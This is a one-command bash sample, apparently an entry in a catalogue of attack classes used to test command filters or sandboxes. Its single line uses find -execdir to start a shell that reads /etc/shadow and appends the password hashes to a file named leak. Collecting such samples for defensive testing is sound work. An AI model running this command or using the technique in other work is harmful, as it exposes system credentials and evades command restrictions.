#!/usr/bin/env bash
# attack-class: 17
# title: find -execdir sh -c
# why: -execdir runs a shell per match

find /data -maxdepth 1 -execdir sh -c 'cat /etc/shadow >> /workspace/leak' \;
